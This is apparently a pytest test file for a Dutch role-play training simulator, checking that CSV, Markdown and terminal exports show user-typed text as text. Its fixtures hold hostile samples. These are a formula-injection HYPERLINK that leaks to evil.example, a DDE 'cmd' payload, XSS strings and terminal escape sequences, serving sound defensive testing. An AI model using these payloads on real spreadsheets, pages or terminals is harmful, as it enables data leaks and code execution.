"""Hostile user text in what other programs read: spreadsheets, Markdown renderers, terminals.

Trainee names, turns, reviewer names and comments are typed by people (or arrive in a bundle from
another machine); every output must show them as text and never obey them.
"""

from __future__ import annotations

import csv
import io
from html.parser import HTMLParser

import pytest
from click.testing import CliRunner
from markdown_it import MarkdownIt
from test_store_sample import make_session

from simulator.cli import main
from simulator.exports import render
from simulator.exports.csvexport import FIELDS
from simulator.store import Store
from simulator.store.review import add_review, override

FORMULA = '=HYPERLINK("http://evil.example/?leak","klik")'
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def store(tmp_path):
    with Store.open(tmp_path / "h.db") as store:
        yield store


def _hostile_session(store: Store) -> str:
    """A session whose every text column starts the way a spreadsheet formula does."""
    sid = "=1+1" + "A" * 22
    store.db["sessions"].insert(
        {
            "id": sid,
            "trainee": FORMULA,
            "persona_id": "+cmd|' /C calc'!A0",
            "scenario_id": "-2+3",
            "lang": "@SUM(1,2)",
            "mode": "\t=1+1",
            "started": "\r=1+1",
            "outcome": "=1+1",
            "scores": '{"listening": "=1+1", "hospitality": "-1+1"}',
            "consent": 1,
        }
    )
    return sid


def test_csv_shows_a_formula_trainee_name_as_text(store):
    sid = make_session(store, trainee=FORMULA)
    row = next(csv.DictReader(io.StringIO(render(store, [sid], "csv"))))
    assert row["trainee"] == "'" + FORMULA


def test_csv_neutralises_formulas_in_every_text_column(store):
    sid = _hostile_session(store)
    make_session(store, trainee="@Piet")
    rows = list(csv.reader(io.StringIO(render(store, [sid], "csv"))))
    assert rows[0] == list(FIELDS)
    cells = rows[1]
    for cell in cells:
        assert not cell.startswith(FORMULA_STARTS), cell
    row = dict(zip(FIELDS, cells, strict=True))
    assert row["trainee"] == "'" + FORMULA  # the text is all there, shown as text
    assert row["session_id"] == "'" + sid and row["listening"] == "'=1+1"


def test_csv_leaves_ordinary_values_alone(store):
    sid = make_session(store, trainee="Piet Jansen")
    row = next(csv.DictReader(io.StringIO(render(store, [sid], "csv"))))
    assert row["trainee"] == "Piet Jansen" and row["listening"] == "55"


HOSTILE_TURNS = [
    ("tenant", "Ja? <script>alert('tenant')</script>", {"irritation": 5, "trust": 5}, {}),
    (
        "trainee",
        "Kijk: ![img](http://evil.example/x.png) en [klik](javascript:alert(1)) <img src=x>",
        None,
        {"greet_introduce": "<b>vet</b> ![i](http://evil.example/q.png)"},
    ),
    ("tenant", "```\nalles hierna is code", {"irritation": 5, "trust": 5}, {}),
    ("trainee", "regel een\n# Kop\n---\n    ingesprongen\n> citaat\n1. lijst", None, {}),
]


class Rendered(HTMLParser):
    """Tags and text of the HTML that a Markdown renderer makes of an export."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.text: list[str] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)

    def handle_data(self, data):
        self.text.append(data)


def _rendered(markdown: str) -> Rendered:
    html = MarkdownIt("commonmark").enable(["table", "strikethrough"]).render(markdown)
    parsed = Rendered()
    parsed.feed(html)
    return parsed


@pytest.fixture
def hostile_md(store) -> str:
    sid = make_session(
        store, trainee="<img src=x onerror=alert(1)> **Piet**", conversation=HOSTILE_TURNS
    )
    override(store, sid, 2, "paraphrase", False, "[Anja](http://evil.example)")
    add_review(store, sid, "<b>tl</b>", "Goed! ![x](http://evil.example/y.png) ``` open")
    return render(store, [sid], "md")


def test_markdown_shows_hostile_text_as_text(hostile_md):
    page = _rendered(hostile_md)
    assert not {"script", "img", "a", "pre", "code", "b", "blockquote", "hr"} & set(page.tags)
    # The document structure is ours alone: our title and our two sections, nothing more.
    assert page.tags.count("h1") == 1 and page.tags.count("h2") == 2
    text = "".join(page.text)
    for literal in (
        "<script>alert('tenant')</script>",
        "![img](http://evil.example/x.png)",
        "<img src=x onerror=alert(1)> **Piet**",
        "```",
        "# Kop",
        "<b>tl</b>",
        "[Anja](http://evil.example)",
    ):
        assert literal in text, literal


def test_markdown_keeps_ordinary_text_readable(store):
    sid = make_session(store, trainee="Sander")
    text = render(store, [sid], "md")
    assert "**2. Medewerker:** Goedemorgen, ik ben Sander van Bouwbedrijf De Vries." in text
    assert "\\" not in text and "&lt;" not in text


TERMINAL_ATTACKS = ("\x1b]0;pwned-title\x07", "\x00", "\x9b2J", "\x1b[2J", "\r", "\u202e")


@pytest.fixture
def home_store():
    """The store the CLI opens (in this test's $ROLEPLAY_HOME)."""
    return Store.open()


def test_terminal_output_strips_control_characters(home_store):
    store = home_store
    trainee = "Mallory\x1b]0;pwned-title\x07"
    sid = make_session(
        store,
        trainee=trainee,
        conversation=[
            ("tenant", "Hallo\x00 daar\x1b[2J", {"irritation": 5, "trust": 5}, {}),
            ("trainee", "Goedemorgen\r\nFAKE LINE\x9b2J \u202eesrever", None, {}),
        ],
    )
    override(store, sid, 2, "greet_introduce", False, "tl\x1b]8;;http://evil.example\x07")
    add_review(store, sid, "Anja\x07", "Let op\x1b]0;pwned-title\x07 de toon\x00")
    store.close()
    runner = CliRunner()
    shown = runner.invoke(main, ["sessions", "show", sid, "--trainee", trainee])
    listed = runner.invoke(main, ["sessions", "list", "--trainee", trainee])
    for result in (shown, listed):
        assert result.exit_code == 0, result.output
        for attack in TERMINAL_ATTACKS:
            assert attack not in result.output
        assert "Mallory" in result.output
    assert "pwned-title" in shown.output and "Let op" in shown.output and "de toon" in shown.output
    assert "Goedemorgen FAKE LINE" in shown.output  # one turn stays one line


def test_terminal_output_keeps_ordinary_text(home_store):
    store = home_store
    sid = make_session(store, trainee="Zoë")
    store.close()
    shown = CliRunner().invoke(main, ["sessions", "show", sid, "--trainee", "Zoë"])
    assert "Medewerker: Zoë" in shown.output and "“Sorry dat ik later ben.”" in shown.output


def test_progress_strips_control_characters_from_ids_and_names(roleplay_home):
    from click.testing import CliRunner

    from simulator.cli import main
    from simulator.store import Store

    name = "Sam\x1b]0;pwned\x07"
    with Store.open() as store:
        sid = store.start_session(trainee=name, persona_id="grumpy", lang="nl",
                                  scenario_id="tap\x1b[2J\x00", consent=True)
        store.add_turn(sid, speaker="trainee", text="Goedemiddag.")
        store.end_session(sid, "resolved", {"listening": 50, "hospitality": 70})
    result = CliRunner().invoke(main, ["progress", "--trainee", name])
    assert result.exit_code == 0, result.output
    assert "\x1b" not in result.output and "\x00" not in result.output
    assert "tap" in result.output
